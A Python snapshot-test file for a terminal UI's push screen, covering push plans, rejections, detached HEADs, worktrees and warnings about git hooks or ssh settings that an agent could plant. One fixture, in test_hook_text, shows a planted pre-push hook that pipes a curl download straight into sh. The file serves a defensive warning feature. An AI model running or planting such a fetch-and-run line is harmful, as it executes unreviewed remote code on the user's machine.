"""/push: the plan, the second key, a push and its end; flags in list and transcript."""

from __future__ import annotations

from typing import Any

import pytest
from textual.pilot import Pilot

from state.events import DeliveryChanged, Event
from state.git import worktrees
from state.items import ThreadId
from state.looks import Look, Looked
from state.push_faults import fault_of
from state.pushes import PushResult
from state.select.push_words import Phase
from state.undelivered import Stray, Undelivered
from tests.screens import control_scripts as cs
from tests.screens import push_scripts as ps
from tests.screens import scripts as s
from tests.screens.stage import CWD, NOW, connected, keys, stage, told
from tests.screens.test_sandbox import disk
from tests.snap import Act, Size, Snap, settle, sizes
from tui.app import CodexTui
from tui.screens.push import PushBoard

ONE, TWO = "01a1-cache", "01a1-docs"
STRAY = Stray("fix/cache", 2, ps.HEAD, worktree=ps.WT, linked=True)
MAIN = Stray("main", 1, ps.OTHER, worktree=CWD, upstream="origin/main")


def flags(*strays: Stray, failed: str = "", thread: str = ONE) -> list[Event]:
    left = Undelivered(f"{CWD}/.git", CWD, strays, failed, NOW)
    return [DeliveryChanged(ThreadId(thread), (left,))]


def app(looks: Any = None, *, flagged: bool = True, **given: Any) -> CodexTui:
    """Two threads; the first one left two commits on a branch of a worktree."""
    first = s.row(ONE, "fix the parser cache", 30, "idle", createdAt=ps.NOW_S - 3600)
    second = s.row(TWO, "docs pass", 300, "idle")
    script = [s.listed(first, second), s.opened(first, s.WORKSPACE)]
    it = stage(
        connected(),
        told(*script),
        flags(STRAY) if flagged else [],
        open_thread=ONE,
        replies=cs.controls(user={"sandbox_mode": "workspace-write"}),
        looks=looks or ps.looks(),
        **given,
    )
    it.services.disk = disk
    it.services.environment = {"HOME": "/home/dev", "PATH": "/usr/bin:/bin"}
    return it


def push(*then: str) -> Act:
    return keys("colon", *"push", "enter", *then)


async def _press(pilot: Pilot[Any], *names: str) -> None:
    for name in names:
        await pilot.press(name)
        await settle(pilot)


def board(pilot: Pilot[Any]) -> PushBoard:
    screen = pilot.app.screen
    assert isinstance(screen, PushBoard)
    return screen


def after(*then: str, **state: Any) -> Act:
    """The board, half a second later, in this state."""

    async def act(pilot: Pilot[Any]) -> None:
        await _press(pilot, "colon", *"push", "enter")
        desk = board(pilot).desk
        desk.state.since_ms = 0
        for name, value in state.items():
            setattr(desk.state, name, value)
        board(pilot).show()
        await _press(pilot, *then)

    return act


@sizes
def test_plan(snap_of: Snap, size: Size) -> None:
    words = ["push 2 commits", "fix/cache on origin", "ssh", "p push"]
    snap_of(app(), size, run_before=push(), must_contain=words)


@pytest.mark.parametrize("size", [(80, 24), (120, 40)])
def test_programs_of_ssh(snap_of: Snap, size: Size) -> None:
    """What ssh's own settings start is named, with the line that says so."""
    words = ["Match exec", "nc -z ssh.github.com", "known-hosts", "p once more"]
    it = app(ps.looks(ssh=ps.SSH))
    snap_of(it, size, run_before=after("p"), must_contain=words)


def test_more_than_the_box_has_room_for(snap_of: Snap) -> None:
    """Then it heads the page, whole; up and down scroll, and do not disarm."""
    tool = "/home/dev/src/parsecache/tools/ask"
    rows = [
        f'Match exec "{tool}{n} %h --with-words --until no --room is --left"\n'
        for n in range(9)
    ]
    words = ["tools/ask2", "--left", "9 programs and settings", "p once more"]
    it = app(ps.looks(ssh="".join(rows)))
    snap_of(it, (80, 24), run_before=after("p", "down"), must_contain=words)


@sizes
def test_planted_hook(snap_of: Snap, size: Size) -> None:
    """What an agent can write is spelled out, and p has to come again."""
    words = [
        "p once more",
        "hook pre-push",
        "an agent can write it",
        "N pushes",
    ]
    it = app(ps.looks(husky=True))
    snap_of(it, size, run_before=after("p"), must_contain=words)


def test_hook_text(snap_of: Snap) -> None:
    it = app(ps.looks(husky=True))
    words = ["pre-push, as it begins", "curl -s https://example.org/x | sh"]
    snap_of(it, (120, 40), run_before=after("v"), must_contain=words)


def test_pushing(snap_of: Snap) -> None:
    said = ("Enumerating objects: 7, done.", "Writing objects:  43% (3/7)")
    act = after(phase=Phase.RUNNING, said=said)
    words = ["pushing", "43%", "x stop it"]
    snap_of(app(), (120, 40), run_before=act, must_contain=words)


def test_pushed(snap_of: Snap) -> None:
    result = PushResult(0, "Done", None, "[new branch]")
    gh = ("gh", "pr", "create", "--repo", "github.com/acme/parsecache", "--head", "x")
    act = after(phase=Phase.ENDED, result=result, gh=gh)
    words = ["Pushed 2 commits of fix/cache to origin", "g opens a pull request"]
    snap_of(app(), (120, 40), run_before=act, must_contain=words)


REJECTED = """To github.com:acme/parsecache.git
!\trefs/heads/fix/cache:refs/heads/fix/cache\t[rejected] (fetch first)
Done
error: failed to push some refs to 'github.com:acme/parsecache.git'"""


@sizes
def test_rejected(snap_of: Snap, size: Size) -> None:
    result = PushResult(1, REJECTED, fault_of(REJECTED))
    act = after(phase=Phase.ENDED, result=result)
    words = [
        "Not pushed: the remote has commits",
        "nothing is ever forced",
        "v raw text",
    ]
    snap_of(app(), size, run_before=act, must_contain=words)


def test_raw_text(snap_of: Snap) -> None:
    result = PushResult(1, REJECTED, fault_of(REJECTED))
    act = after("v", phase=Phase.ENDED, result=result)
    words = ["What git and the remote said", "failed to push some refs"]
    snap_of(app(), (120, 40), run_before=act, must_contain=words)


def test_diverged_and_another_branch(snap_of: Snap) -> None:
    it = app(ps.looks(ps.repo(more=True, remotes="origin\nfork\n"), behind=3))
    words = ["diverged", "the remote has 3 commits", "branch 1 of 2", "other remote"]
    snap_of(it, (120, 40), run_before=push(), must_contain=words)


def test_detached(snap_of: Snap) -> None:
    it = app(ps.looks(ps.repo(detached=True)))
    words = ["a detached HEAD", "git switch -c NAME"]
    snap_of(it, (120, 40), run_before=push(), must_contain=words)


def test_no_remote(snap_of: Snap) -> None:
    it = app(ps.looks(ps.repo(remotes="")), flagged=False)
    snap_of(
        it, (80, 24), run_before=push(), must_contain=["no remote", "add origin URL"]
    )


def test_no_repository(snap_of: Snap) -> None:
    text = "fatal: not a git repository (or any of the parent directories): .git\n"
    it = app(ps.looks(ps.said({"where": text}, bad=("where",))), flagged=False)
    words = ["This is not a git repository"]
    snap_of(it, (80, 24), run_before=push(), must_contain=words)


def test_no_git(snap_of: Snap) -> None:
    it = app(ps.looks(Looked(0, "nogit\n")), flagged=False)
    snap_of(it, (80, 24), run_before=push(), must_contain=["no git where the engine"])


@sizes
def test_flagged(snap_of: Snap, size: Size) -> None:
    """In list and transcript; never the sign of a thread that is simply ready."""
    words = ["↑", "not delivered"]
    it = app()
    snap_of(it, size, must_contain=words)


def test_flagged_with_more(snap_of: Snap) -> None:
    first = s.row(ONE, "fix the parser cache", 30, "idle")
    second = s.row(TWO, "docs pass", 300)
    it = stage(
        connected(),
        told(s.listed(first, second), s.opened(first, s.WORKSPACE)),
        flags(STRAY, MAIN, failed="the remote has commits that this branch lacks"),
        flags(MAIN, thread=TWO),
        open_thread=ONE,
    )
    words = ["and 1", "a push failed", "1 commit on main"]
    snap_of(it, (120, 40), run_before=keys("2", "v"), must_contain=words)


def test_light(snap_of: Snap) -> None:
    it = app(ps.looks(husky=True), theme="paper")
    words = ["p once more", "hook pre-push"]
    snap_of(it, (120, 40), run_before=after("p"), must_contain=words)


@sizes
def test_worktree(snap_of: Snap, size: Size) -> None:
    """What is to be made is named, and nothing is made by enter alone."""
    it = app(flagged=False)
    act = keys("colon", *"worktree", "enter", *"docs", "enter")
    words = ["parsecache-worktrees/docs", "no hook runs", "[Cancel]"]
    snap_of(it, size, run_before=act, must_contain=words)


def test_worktree_taken_away(snap_of: Snap) -> None:
    first = s.row(ONE, "fix the parser cache", 30, "idle", cwd=ps.WT)
    clean = {**ps.repo(), "loose": ""}
    usual = ps.looks(clean)

    def looks(asked: Look) -> Looked | None:
        if asked.command[2].endswith(worktrees.KEEP):
            state = "! .env\0! .venv/\0! build/\0! node_modules/\0"
            said = {"state": state, "stashes": "", "busy": "", "lost": "0\n"}
            return ps.said(said)
        return usual(asked)

    it = stage(
        connected(),
        told(s.listed(first), s.opened(first, s.WORKSPACE)),
        open_thread=ONE,
        looks=looks,
    )
    words = ["Remove its worktree, too?", "fix/cache stays", "[Keep it]", "1 more"]
    snap_of(it, (120, 40), run_before=keys("A"), must_contain=words)
